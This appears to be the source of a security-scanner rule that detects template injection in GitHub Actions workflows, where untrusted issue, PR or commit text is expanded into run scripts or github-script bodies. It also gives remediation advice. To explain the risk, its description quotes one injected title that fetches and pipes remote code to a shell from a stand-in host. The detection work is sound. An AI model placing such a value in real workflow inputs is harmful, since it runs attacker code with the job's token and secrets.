import type { Rule } from '../../../src/model/rule.js';
import { get, isMap, str } from '../../../src/parsers/data/tree.js';
import { actionRepo, envLookup, expressionsIn, GHA_STANDARDS, HARDENING, jobs, steps, untrustedRefs, usesOf, workflows } from './workflow.js';

/** Attacker-controlled event text expanded by `${{ }}` into a shell script or a github-script body. */
const rule: Rule = {
  meta: {
    id: 'iac/gha-template-injection',
    title: 'Untrusted input expanded into a workflow script',
    description:
      'GitHub expands `${{ }}` expressions into a `run:` script (or an `actions/github-script` body) before the shell or Node sees it. When the expression holds text an outside contributor controls (an issue or pull request title or body, a comment, a branch name, a commit message, an author e-mail), that text becomes code: a title such as `"; curl evil | sh; "` runs with the job\'s token and secrets. Passing the value through `env:` and reading it as a quoted shell variable keeps it data.',
    severity: 'high',
    kinds: ['github-workflow'],
    messages: {
      run: '`{{expression}}` expands attacker-controlled `{{context}}` straight into a `run:` script (code injection); pass it through `env:` (e.g. `env: VALUE: ${{ {{context}} }}`) and use `"$VALUE"` in the script.',
      env: '`{{expression}}` re-expands `{{variable}}`, which holds attacker-controlled `{{context}}`, into the script (code injection); read it as a shell variable (`"$VAR"`) or `process.env.VAR`, never as `${{ env.VAR }}`.',
      script: '`{{expression}}` expands attacker-controlled `{{context}}` into the `actions/github-script` code (code injection); pass it through `env:` and read `process.env.VALUE` instead.',
    },
    remediation:
      'Never interpolate untrusted context into code. Bind it to an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) and reference the variable, double-quoted, in the script (`"$TITLE"`), or `process.env.TITLE` in github-script.',
    references: [
      `${HARDENING}#understanding-the-risk-of-script-injections`,
      'https://securitylab.github.com/resources/github-actions-untrusted-input/',
      'https://docs.zizmor.sh/audits/#template-injection',
    ],
    standards: { ...GHA_STANDARDS, cwe: ['CWE-78', 'CWE-94'] },
    equivalents: { zizmor: ['template-injection'], checkov: ['CKV_GHA_2'], scorecard: ['Dangerous-Workflow'], semgrep: ['yaml.github-actions.security.run-shell-injection.run-shell-injection'] },
    security: true,
    since: '0.1.0',
  },
  check(ctx) {
    const text = ctx.file.text;
    for (const wf of workflows(ctx)) {
      for (const job of jobs(wf)) {
        for (const step of steps(job)) {
          const env = envLookup(text, wf, job, step);
          const run = get(step, 'run');
          const uses = usesOf(step);
          const targets: { node: typeof run; messageId: string }[] = [];
          if (run) targets.push({ node: run, messageId: 'run' });
          if (uses && actionRepo(uses) === 'actions/github-script') {
            const withs = get(step, 'with');
            if (isMap(withs)) targets.push({ node: get(withs, 'script'), messageId: 'script' });
          }
          for (const t of targets) {
            if (!t.node || str(t.node) === undefined) continue;
            for (const ex of expressionsIn(text, t.node)) {
              const bad = untrustedRefs(ex.body, env);
              if (!bad.length) continue;
              const expression = text.slice(ex.start, ex.end).replace(/\s+/g, ' ');
              const via = /^(env\.\S+) \(= (.+)\)$/.exec(bad[0]);
              ctx.report({
                messageId: via ? 'env' : t.messageId,
                offsets: [ex.start, ex.end],
                data: via ? { expression, variable: via[1], context: via[2] } : { expression, context: bad[0] },
              });
            }
          }
        }
      }
    }
  },
};
export default rule;
